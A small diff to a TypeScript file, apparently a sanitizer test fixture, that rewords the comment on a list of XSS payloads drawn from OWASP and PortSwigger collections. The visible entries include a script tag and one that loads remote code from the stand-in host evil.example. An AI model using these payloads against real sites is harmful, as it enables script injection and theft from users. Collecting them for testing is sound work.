@@ -1,6 +1,6 @@
 const call = 'window.__ran=1';
 
-/** Script injections from the OWASP and PortSwigger collections, mutation XSS, and payloads that editors once let through. */
+/** Script injections from the OWASP and PortSwigger collections, mutation XSS, and payloads that other editors have let through. */
 export const scriptPayloads: readonly string[] = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
